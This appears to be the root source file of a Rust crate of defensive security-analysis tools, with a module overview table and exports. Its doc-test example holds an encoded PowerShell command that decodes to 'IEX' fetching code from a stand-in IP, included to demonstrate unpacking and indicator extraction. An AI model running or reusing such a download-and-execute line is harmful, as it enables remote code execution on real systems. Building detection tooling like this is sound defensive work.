//! Security analysis tools: the transforms an analyst applies to raw text and events.
//!
//! | module | what it does | string API | DataFrame API |
//! |---|---|---|---|
//! | IoC extraction | IPs, URLs, domains, e-mail, hashes, paths; defanged forms | [`IocExtractor::extract`] | [`IocExtractor::extract_df`] |
//! | base64 unpacking | recursive base64, gzip/zip/tar members, file types, hashes | [`B64Unpacker::unpack`] | [`B64Unpacker::unpack_df`] |
//! | auditd | Linux audit records grouped into events, hex decoded | [`parse_auditd`] | [`auditd_frame`], [`read_auditd_frame`], [`auditd_from_df`], [`AuditLog::to_df`] |
//! | command lines | risky-command rules, command bursts | [`CmdRules::check`] | [`CmdRules::risky_cmd_line`], [`cmd_speed`] |
//! | process trees | parents, roots, paths from 4688 / Sysmon / auditd / MDE events | – | [`build_process_tree`] |
//! | event clustering | msticpy's process features (scores, hashes, delimiter counts) | [`eventcluster::delim_hash`] … | [`eventcluster::add_process_features`] |
//! | outliers | Isolation Forest (seeded), msticpy's `identify_outliers`; `remove_common_items` | [`outliers::IsolationForest`] | [`outliers::identify_outliers`], [`outliers::remove_common_items`] |
//! | anomalous sequences | sessions from events; Markov-model rarest windows (msticpy's `score_sessions`) | [`anomalous_sequence::Model`] | [`anomalous_sequence::sessionize_data`], [`anomalous_sequence::score_sessions`] |
//! | time-series anomalies | STL decomposition, z-scores, anomaly periods, KQL time filter | [`timeseries::stl`] | [`timeseries::ts_anomalies_stl`], [`timeseries::extract_anomaly_periods`] |
//! | refanging | undo `hxxp`, `[.]`, `[at]` | [`refang`] | – |
//! | TI lookups | VirusTotal, OTX, AbuseIPDB, GreyNoise, Tor, local lists; cached, rate limited | [`enrich::TiLookup::lookup_ioc`] | [`enrich::TiLookup::lookup_df`] |
//! | GeoIP, whois, DNS | MaxMind `.mmdb`, IPStack, RDAP, hickory DNS, public suffixes | [`enrich::MaxMindGeoIp`], [`enrich::Rdap`], [`enrich::DnsResolver`] | [`enrich::geo_df`], [`enrich::Rdap::whois_df`], [`enrich::DnsResolver::resolve_df`] |
//! | settings and secrets | `msticpyconfig.yaml`, `{EnvironmentVar: …}`, `HUNTRS_*` overrides; [`Secret`] never prints | [`Settings::load`] | – |
//! | HTTP | timeouts, retries with backoff, rate limits, interrupts, streamed bodies | [`http::HttpClient`] | – |
//!
//! Nothing here keeps global state: two calls with the same input give the same output.
//!
//! ```
//! use sectools::{B64Unpacker, IocExtractor, IocType};
//!
//! let line = "powershell -enc SQBFAFgAIAAoAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACkA";
//! let decoded = B64Unpacker::default().unpack(line);
//! let text = decoded.items[0].decoded_string.as_deref().unwrap_or_default();
//! assert_eq!(text, "IEX (http://198.51.100.7/a)");
//! let iocs = IocExtractor::new().extract(text);
//! assert!(iocs[&IocType::Url].contains("http://198.51.100.7/a"));
//! ```

pub use auditd::{
    AuditEvent, AuditFrame, AuditIssue, AuditLog, AuditRecord, AuditSummary, auditd_frame,
    auditd_frame_threads, auditd_from_df, parse_auditd, read_auditd_file, read_auditd_frame,
};
pub use b64::{B64Limits, B64Note, B64Result, B64Unpacker, DecodedItem, Encoding};
pub use cmd_line::{CmdHit, CmdRule, CmdRules, MatchedIn, cmd_speed};
pub use error::SectoolsError;
pub use file::read_file;
pub use frame::{compact_text, time_column_ns};
pub use ioc::{Ioc, IocExtractor, IocRef, IocScratch, IocType, classify_ip, validate};
pub use polars;
pub use proctree::{
    EventFilter, ProcSchema, ProcessNode, ProcessTree, TreeSummary, build_process_tree,
};
pub use refang::refang;
pub use runtime::{Interrupted, Progress, ProgressSink, check_interrupt};
pub use secret::Secret;
pub use settings::Settings;

pub mod anomalous_sequence;
mod auditd;
mod b64;
mod cmd_line;
mod digits;
pub mod enrich;
mod error;
pub mod eventcluster;
mod file;
mod frame;
pub mod http;
mod hugepages;
mod ioc;
pub mod jsonl;
pub mod outliers;
mod parallel;
pub(crate) mod proctree;
mod refang;
pub mod runtime;
mod secret;
pub mod settings;
mod short_eq;
pub mod timeseries;
